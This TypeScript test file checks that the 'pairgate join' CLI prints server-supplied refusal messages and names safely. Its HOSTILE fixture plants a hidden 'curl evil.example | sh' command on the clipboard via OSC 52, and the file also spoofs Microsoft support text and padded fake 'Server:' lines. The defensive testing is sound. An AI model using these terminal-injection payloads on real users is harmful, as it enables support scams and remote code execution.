import { createServer } from 'node:http';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ensureBuilt } from '../helpers/node-process.js';
import { listening } from '../sdk/consumer-sdk-helpers.js';
import { cliChildren } from './cli-child.js';

/**
 * `pairgate join` prints what the server a code led to says when it refuses: on an open relay that
 * server is anyone's, and its words reach the person's terminal. Escapes in them (ANSI, OSC: clear
 * the screen, rewrite lines, set the title or the clipboard in some terminals) must show as U+FFFD,
 * as the supporter's name and messages already do.
 */

beforeAll(() => ensureBuilt(), 120_000);

const run = cliChildren();

/** Whether `text` holds an escape (ESC) or a bell (BEL, which ends an OSC sequence). */
function holdsEscapes(text: string): boolean {
  return text.includes('\u001b') || text.includes('\u0007');
}

/** Clears the screen, puts text on the clipboard (OSC 52), sets the title, hides the rest. */
const HOSTILE = '\u001b[2J\u001b[H\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007\u001b]0;Microsoft\u0007Support: run the command on your clipboard\u001b[8m';

describe('pairgate join: a refusal\'s words from the server are printed terminal-safe', () => {
  let server: { url: string; server: ReturnType<typeof createServer> };
  /** What the fake origin answers for a code's pairing info. */
  let refusal: { status: number; body: Record<string, unknown> };

  beforeAll(async () => {
    // A relay (at /relay) that sends the code to an origin (at /) refusing it with `refusal`.
    server = await listening(createServer((incoming, answer) => {
      const code = /\/relay\/pairing\/(\w+)$/.exec(incoming.url ?? '')?.[1];
      if (code) return answer.writeHead(302, { location: `/pairing/${code}` }).end();
      const text = JSON.stringify(refusal.body);
      answer.writeHead(refusal.status, { 'content-type': 'application/json', 'content-length': Buffer.byteLength(text), 'retry-after': '60' }).end(text);
    }));
  });
  afterAll(() => new Promise<void>((resolve) => server.server.close(() => resolve())));

  const join = async (): Promise<{ code: number | null; err: string; out: string }> => {
    const child = run(['join', '7auu83', '--relay', `${server.url}/relay`]);
    child.child.stdin!.end();
    const end = await child.exited;
    return { code: end.code, err: child.err(), out: child.out() };
  };

  it('an unknown machine code: the server\'s message and its code, escapes shown as U+FFFD', async () => {
    refusal = { status: 404, body: { Error: 'Not Found', Description: HOSTILE, Code: 'gone\u001b[31m' } };
    const result = await join();
    expect(result.code).toBe(2);
    expect(result.err).toContain('Support: run the command on your clipboard');
    expect(holdsEscapes(result.err), JSON.stringify(result.err)).toBe(false);
    expect(result.err).toContain('\uFFFD');
  });

  it('rate_limited, whose words are the server\'s: the same', async () => {
    refusal = { status: 429, body: { Error: 'Too Many Requests', Description: HOSTILE, Code: 'rate_limited' } };
    const result = await join();
    expect(result.code).toBe(2);
    expect(result.err).toContain('Support: run the command on your clipboard');
    expect(holdsEscapes(result.err), JSON.stringify(result.err)).toBe(false);
  });
});

describe('pairgate join: the names a server claims cannot print lines of its own before the question', () => {
  let server: { url: string; server: ReturnType<typeof createServer> };
  /** The pairing info the fake origin answers. */
  let info: Record<string, unknown>;

  beforeAll(async () => {
    // A relay (at /relay) that sends the code to an origin (at /) claiming `info`.
    server = await listening(createServer((incoming, answer) => {
      const code = /\/relay\/pairing\/(\w+)$/.exec(incoming.url ?? '')?.[1];
      if (code) return answer.writeHead(302, { location: `/pairing/${code}` }).end();
      const text = JSON.stringify(info);
      answer.writeHead(200, { 'content-type': 'application/json', 'content-length': Buffer.byteLength(text) }).end(text);
    }));
  });
  afterAll(() => new Promise<void>((resolve) => server.server.close(() => resolve())));

  const join = async (): Promise<{ code: number | null; out: string }> => {
    const child = run(['join', '7auu83', '--relay', `${server.url}/relay`]);
    // No answer: nothing is confirmed, the names are printed all the same.
    child.child.stdin!.end();
    const end = await child.exited;
    return { code: end.code, out: child.out() };
  };

  const base = { AgentMSH: 'http://x/config/a:b', ExpiresAt: new Date(Date.now() + 600_000).toISOString(), CompanyLogo: '', SupporterAvatar: '' };

  it('a name padded to the terminal\'s width shows no second Server: line, and no invisible padding', async () => {
    // On an 80-column terminal, "Supporter: Thorsten" and the spaces end the row; the rest wraps
    // to a row of its own that reads as the program's. Invisible characters and ideographic
    // spaces pad as well as spaces do.
    info = { ...base, SupporterName: `Thorsten${' '.repeat(61)}Server:    support.microsoft.com`, CompanyName: `ACME${'\u3000\u200b'.repeat(70)}Company:   Microsoft` };
    const result = await join();
    expect(result.code).toBe(2);
    expect(result.out).toContain('Supporter: Thorsten Server: support.microsoft.com');
    expect(result.out).toContain('Company:   ACME Company: Microsoft');
    expect(result.out).not.toMatch(/ {2,}Server:|[\u3000\u200b]/u);
  });

  it('a name longer than a line is cut', async () => {
    info = { ...base, SupporterName: `T${'h'.repeat(5000)}`, CompanyName: 'ACME' };
    const result = await join();
    const line = result.out.split('\n').find((text) => text.startsWith('Supporter: '))!;
    expect([...line].length).toBeLessThanOrEqual('Supporter: '.length + 60);
    expect(line.endsWith('…')).toBe(true);
  });
});
